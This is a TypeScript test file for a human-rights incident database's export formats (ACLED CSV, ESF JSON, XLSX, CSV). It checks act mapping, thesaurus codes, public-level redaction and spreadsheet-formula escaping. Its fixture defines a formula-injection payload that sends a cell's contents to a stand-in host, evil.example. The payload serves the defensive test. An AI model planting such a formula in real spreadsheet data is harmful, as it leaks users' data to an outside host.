/**
 * The exports in the field's shapes (xlsx, esf-json, acled-csv) on real stores: one ACLED row per act
 * of the seed incident (the seed article where ../shared has it, else the project's own), the ESF
 * document's codes, formula cells escaped in CSV and XLSX, and the public level's redaction in every
 * new format.
 */
import { randomUUID } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import readXlsxFile from 'read-excel-file/node';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseCsv } from '../../src/analysis/csv.ts';
import type { Actor } from '../../src/services/accounts/actor.ts';
import { exportDataset } from '../../src/services/export/dataset.ts';
import { ACLED_COLUMNS } from '../../src/services/export/formats/acledTable.ts';
import { actsRepository } from '../../src/store/acts.ts';
import { filesContaining } from '../protection/cliHarness.ts';
import { backends, openTestStore, type TestStore } from '../support/stores.ts';
import { PERSON_SECRETS, SEED_PII, seedExportData } from './exportFixture.ts';

const FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"see")';

function csvObjects(path: string): Array<Record<string, string>> {
  const [header, ...rows] = parseCsv(readFileSync(path, 'utf8')).map((row) => row.cells);
  return rows.map((cells) => Object.fromEntries(header!.map((column, i) => [column, cells[i] ?? ''])));
}

describe.each(backends())('exports in the field’s shapes on %s', (backend) => {
  let store: TestStore;
  let admin: Actor;
  let incidentId: string;
  let out: string;
  let seedActs: number;
  const killingId = randomUUID();

  beforeAll(async () => {
    store = await openTestStore(backend);
    ({ admin, incidentId } = await seedExportData(store));
    seedActs = (await actsRepository(store.db).listByIncident(incidentId)).length;
    // A killing with a range of 3–5 and exact coordinates, and a title a spreadsheet would run.
    await actsRepository(store.db).insert({
      id: killingId,
      incidentId,
      type: 'killing',
      victimsMin: 3,
      victimsMax: 5,
      victimGroup: null,
      placeName: 'Grozny',
      country: 'RU',
      dateFrom: '2017-04-02',
      dateTo: '2017-04-02',
      datePrecision: 'day',
      perpetrators: [{ name: 'Kadyrovtsy', actorId: null }],
      provenance: null,
    });
    await actsRepository(store.db).setGeolocation(killingId, {
      latitude: 43.318_412,
      longitude: 45.698_763,
      precision: 1,
    });
    await store.db.query('update incidents set title = $1 where id = $2', [FORMULA, incidentId]);
    out = mkdtempSync(join(tmpdir(), 'attest-formats-'));
  });
  afterAll(async () => {
    await store?.close();
    rmSync(out, { recursive: true, force: true });
  });

  const run = (name: string, format: 'xlsx' | 'esf-json' | 'acled-csv' | 'csv', isPublic: boolean) =>
    exportDataset(
      store.db,
      { target: join(out, name), format, public: isPublic },
      { actor: admin, exportedBy: admin.email },
    );

  it('acled-csv: one row per act of the seed incident, in the expected columns, fatalities counted once', async () => {
    const report = await run('acled', 'acled-csv', false);
    expect(report.files).toEqual(['acled.csv', 'manifest.json', 'SHA256SUMS']);
    const text = readFileSync(join(out, 'acled', 'acled.csv'), 'utf8');
    expect(text.split('\n')[0]).toBe(ACLED_COLUMNS.join(','));
    const rows = csvObjects(join(out, 'acled', 'acled.csv'));
    expect(seedActs).toBeGreaterThan(0);
    expect(rows).toHaveLength(seedActs + 1);
    expect(new Set(rows.map((row) => row.attest_act_id)).size).toBe(rows.length);
    expect(rows.every((row) => row.attest_incident_id === incidentId)).toBe(true);
    const killing = rows.find((row) => row.attest_act_id === killingId)!;
    expect(killing).toMatchObject({
      event_date: '2017-04-02',
      year: '2017',
      time_precision: '1',
      event_type: 'Violence against civilians',
      sub_event_type: 'Attack',
      actor1: 'Kadyrovtsy',
      iso: 'RU',
      country: 'Russia',
      location: 'Grozny',
      latitude: '43.318412',
      longitude: '45.698763',
      geo_precision: '1',
      // The lowest figure the sources give, not the highest, and not the sum.
      fatalities: '3',
    });
    // The incident's title is the notes of an act without a passage: escaped, never a formula.
    expect(killing.notes).toBe(`'${FORMULA}`);
    for (const row of rows.filter((r) => r.attest_type === 'detention')) {
      expect(row).toMatchObject({ event_type: 'Strategic developments', sub_event_type: 'Arrests' });
      expect(row.fatalities).toBe('0');
    }
    expect(JSON.parse(readFileSync(join(out, 'acled', 'manifest.json'), 'utf8')).records).toEqual({
      acts: seedActs + 1,
    });
  });

  it('acled-csv public: texts redacted, coordinates rounded to about a kilometre', async () => {
    await run('acled-public', 'acled-csv', true);
    const dir = join(out, 'acled-public');
    const killing = csvObjects(join(dir, 'acled.csv')).find((row) => row.attest_act_id === killingId)!;
    expect(killing).toMatchObject({ latitude: '43.32', longitude: '45.7', geo_precision: '2' });
    expect(leaks(dir)).toEqual([]);
  });

  it('esf-json: events, acts, involvements, sources and interventions with micro-thesaurus codes', async () => {
    await run('esf', 'esf-json', false);
    const doc = JSON.parse(readFileSync(join(out, 'esf', 'esf.json'), 'utf8')) as {
      format: string;
      level: string;
      events: Array<{ id: string; event_title: string; types_of_acts: unknown[] }>;
      acts: Array<{ id: string; event_id: string; type_of_act: { list: number; vocab_number: string } }>;
      involvements: unknown[];
      sources: unknown[];
      interventions: Array<{ type_of_intervention: { list: number } | null }>;
      persons?: unknown[];
    };
    expect(doc.format).toBe('attest-esf');
    expect(doc.level).toBe('partner');
    expect(doc.events.map((event) => event.id)).toEqual([incidentId]);
    // JSON keeps values exactly: the escaping is for spreadsheets only.
    expect(doc.events[0]!.event_title).toBe(FORMULA);
    expect(doc.acts).toHaveLength(seedActs + 1);
    expect(doc.acts.find((act) => act.id === killingId)!.type_of_act).toEqual({
      list: 4,
      vocab_number: '01010102000004',
      label: 'Extra-judicial execution outside any legal proceedings',
    });
    expect(doc.acts.every((act) => act.event_id === incidentId && act.type_of_act.list === 4)).toBe(true);
    expect(doc.sources.length).toBeGreaterThan(0);
    expect(Array.isArray(doc.involvements)).toBe(true);
    for (const intervention of doc.interventions) expect(intervention.type_of_intervention?.list).toBe(20);
    expect(doc.persons).toHaveLength(1);
  });

  it('esf-json public: no persons, texts redacted', async () => {
    await run('esf-public', 'esf-json', true);
    const doc = JSON.parse(readFileSync(join(out, 'esf-public', 'esf.json'), 'utf8')) as Record<
      string,
      unknown
    >;
    expect(doc.level).toBe('public');
    expect(doc).not.toHaveProperty('persons');
    expect(leaks(join(out, 'esf-public'))).toEqual([]);
  });

  it('xlsx: a sheet per record type, formula cells escaped, public level redacted', async () => {
    const report = await run('xlsx', 'xlsx', false);
    expect(report.files).toEqual(['dataset.xlsx', 'manifest.json', 'SHA256SUMS']);
    const sheets = await readXlsxFile(readFileSync(join(out, 'xlsx', 'dataset.xlsx')));
    expect(sheets.map((sheet) => sheet.sheet)).toEqual([
      'incidents',
      'acts',
      'claims',
      'interventions',
      'actors',
      'sources',
      'involvements',
      'persons',
      'statistics',
    ]);
    const incidents = sheets.find((sheet) => sheet.sheet === 'incidents')!.data;
    const titleAt = incidents[0]!.indexOf('title');
    expect(incidents[1]![titleAt]).toBe(`'${FORMULA}`);
    const acts = sheets.find((sheet) => sheet.sheet === 'acts')!.data;
    expect(acts).toHaveLength(seedActs + 2);
    // Numbers stay numbers.
    const killing = acts.find((row) => row[0] === killingId)!;
    expect(killing[acts[0]!.indexOf('victims_min')]).toBe(3);

    await run('xlsx-public', 'xlsx', true);
    const publicSheets = await readXlsxFile(readFileSync(join(out, 'xlsx-public', 'dataset.xlsx')));
    expect(publicSheets.map((sheet) => sheet.sheet)).not.toContain('persons');
    const publicText = JSON.stringify(publicSheets);
    for (const secret of [...SEED_PII, ...PERSON_SECRETS, 'admin@example.org'])
      expect(publicText, secret).not.toContain(secret);
  });

  it('csv: the formula cell escaped in the one CSV writer', async () => {
    await run('csv', 'csv', false);
    const incidents = csvObjects(join(out, 'csv', 'incidents.csv'));
    expect(incidents[0]!.title).toBe(`'${FORMULA}`);
  });
});

function leaks(dir: string): string[] {
  return [...SEED_PII, ...PERSON_SECRETS, 'admin@example.org'].flatMap((value) =>
    filesContaining(dir, value).map((file) => `${value} in ${file}`),
  );
}
